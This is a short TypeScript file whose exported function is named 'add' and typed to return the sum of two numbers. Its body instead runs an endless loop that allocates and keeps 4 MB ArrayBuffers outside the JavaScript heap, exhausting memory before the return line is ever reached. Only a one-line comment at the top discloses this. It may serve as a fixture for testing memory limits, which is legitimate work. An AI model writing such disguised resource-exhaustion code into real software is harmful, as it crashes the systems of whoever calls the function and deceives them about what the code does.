// Allocates 4 MB ArrayBuffers (off the JS heap) forever and keeps them.
export function add(a: number, b: number): number {
  const kept: ArrayBuffer[] = [];
  while (true) {
    const buf = new ArrayBuffer(4 * 1024 * 1024);
    new Uint8Array(buf).fill(1);
    kept.push(buf);
  }
  return a + b;
}
